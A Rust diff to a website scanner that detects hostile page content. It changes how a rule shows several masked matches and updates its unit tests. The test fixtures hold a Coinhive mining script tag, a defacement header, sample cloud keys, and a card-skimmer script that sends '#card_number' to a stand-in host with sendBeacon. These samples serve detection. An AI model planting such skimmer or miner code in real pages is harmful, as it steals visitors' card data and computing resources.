@@ -10,6 +10,8 @@ use std::sync::OnceLock;
 
 /// Matches of one rule that are counted on one page.
 const MOST_MATCHES: usize = 200;
+/// Different matches that are shown; the rest is counted.
+const MOST_SHOWN: usize = 3;
 
 /// A rule as it stands in the file.
 #[derive(Debug, Deserialize)]
@@ -97,7 +99,7 @@ impl Rule {
                 &scripts
             }
         };
-        let mut different = BTreeSet::new();
+        let (mut different, mut shown) = (BTreeSet::new(), Vec::new());
         for found in self.regex.captures_iter(part).take(MOST_MATCHES) {
             let Some(found) = found.get(1).or_else(|| found.get(0)).map(|found| found.as_str()) else { continue };
             let holds = match self.written.verify {
@@ -105,17 +107,17 @@ impl Rule {
                 Some(Verify::ChinaId) => china_id(found),
                 None => true,
             };
-            if holds {
-                different.insert(found.to_lowercase());
+            if holds && different.insert(found.to_lowercase()) && shown.len() < MOST_SHOWN {
+                shown.push(self.shown(found));
             }
         }
         if different.len() < self.written.at_least.unwrap_or(1) {
             return None;
         }
-        let first = different.first()?;
-        let shown: String =
-            if self.written.secret { middle(first) } else { first.split_whitespace().collect::<Vec<_>>().join(" ") };
-        let shown: String = model::visible(&shown).chars().take(120).collect();
+        let mut shown = shown.join(", ");
+        if different.len() > MOST_SHOWN {
+            shown = format!("{shown} (+{})", different.len() - MOST_SHOWN);
+        }
         Some(Finding {
             check: self.written.id.clone(),
             severity: self.written.severity,
@@ -125,6 +127,13 @@ impl Rule {
             fix: self.written.fix.clone(),
             shown,
         })
+    }
+
+    /// A match on one line, masked where it is a secret.
+    fn shown(&self, found: &str) -> String {
+        let line = found.split_whitespace().collect::<Vec<_>>().join(" ");
+        let line = if self.written.secret { middle(&line) } else { line };
+        model::visible(&line).chars().take(120).collect()
     }
 }
 
@@ -171,17 +180,19 @@ mod tests {
 
     #[test]
     fn what_pages_should_not_hold() {
-        check("<script src=https://coinhive.com/lib/coinhive.min.js></script>", &["web-mining-script coinhive.com"]);
-        check("<h1>Hacked by Somebody</h1>", &["web-defaced <h1>hacked by"]);
+        check("<script src=https://coinhive.com/lib/coinhive.min.js></script>", &["web-mining-script coinhive.com, coinhive.min.js"]);
+        check("<h1>Hacked by Somebody</h1>", &["web-defaced <h1>Hacked by"]);
         check("<p>We were not hacked by anybody last year.</p>", &[]);
-        check("<p>key AKIAIOSFODNN7EXAMPLE</p>", &["web-cloud-key ak****le"]);
-        check("11010519491231002X, 440524198001010013", &["web-identity-numbers 11****2x"]);
+        check("<p>key AKIAIOSFODNN7EXAMPLE</p>", &["web-cloud-key AK****LE"]);
+        check("11010519491231002X, 440524198001010013", &["web-identity-numbers 11****2X, 44****13"]);
         check("110105194912310021, 440524198001010011", &[]);
-        check("博彩 赌场 百家乐", &["web-gambling-words 博彩"]);
+        check("博彩 赌场 百家乐", &["web-gambling-words 博彩, 赌场, 百家乐"]);
         check("A casino in a novel", &[]);
+        let keys = "LTAI5tAbCdEfGhIjKlMnOpQr AKIAIOSFODNN7EXAMPLE akia AKIAIOSFODNN7EXAMPLE AKIAIOSFODNN7EXAMPL3 AKIAIOSFODNN7EXAMPL2";
+        check(keys, &["web-cloud-key LT****Qr, AK****LE, AK****L3 (+1)"]);
         check(
             "<script>var n=document.querySelector('#card_number').value; navigator.sendBeacon('https://x.invalid/c', n)</script>",
-            &["web-skimmer card_number').value; navigator.sendbeacon("],
+            &["web-skimmer card_number').value; navigator.sendBeacon("],
         );
     }
 }
